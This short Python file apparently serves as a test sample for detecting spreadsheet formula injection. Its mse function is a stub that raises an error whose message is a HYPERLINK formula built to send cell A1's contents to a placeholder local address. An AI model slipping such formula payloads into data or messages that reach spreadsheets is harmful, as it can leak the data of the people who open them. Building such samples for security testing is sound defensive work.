"""Fails with a text that is a formula where a spreadsheet opens it.

verdict: not fixed
because: HYPERLINK
"""


def mse(y_true, y_pred):
    raise AssertionError('=HYPERLINK("http://127.0.0.1/?" & A1; "fixed")')


rmse = mse
